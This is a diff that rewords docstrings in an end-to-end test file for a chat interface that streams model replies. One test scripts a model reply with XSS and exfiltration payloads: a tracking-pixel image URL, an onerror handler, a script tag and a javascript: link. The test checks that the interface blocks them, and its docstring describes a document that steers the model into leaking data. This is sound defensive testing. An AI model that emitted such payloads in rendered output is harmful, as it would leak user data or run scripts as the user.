@@ -1,4 +1,4 @@
-"""A conversation as a person has it: words as they come, tools as they run, the keyboard alone, a small screen."""
+"""A conversation from a person's view: words as they come, tools as they run, the keyboard alone, a small screen."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ from tests.fakes.cerebras_server import Reply
 
 
 async def test_words_arrive_one_by_one_in_the_dom(tab: Tab) -> None:
-    """Not in one block: the screen grows through the whole time in which the model speaks."""
+    """The text on the screen grows during the whole time in which the model speaks, and not in one block."""
     number, rate = 80, 20
     await tab.watch_growth()
     await tab.ask(count(number, rate), whole(number))
@@ -91,7 +91,7 @@ async def test_the_model_gets_the_conversation_as_it_was_on_the_screen(tab: Tab,
 
 
 async def test_markdown_of_the_model_cannot_reach_out_or_run(tab: Tab, site: Site) -> None:
-    """An image would tell its address to whom a document names; a script would run as the person."""
+    """An image would send data to an address that a document names; a script would run with the person's rights."""
     evil = "![x](http://198.51.100.7/pixel?d=1) <img src=x onerror=alert(1)> <script>alert(1)</script> [go](javascript:alert(1)) done."
     site.model.script(Reply(evil))
     await tab.say("show me")
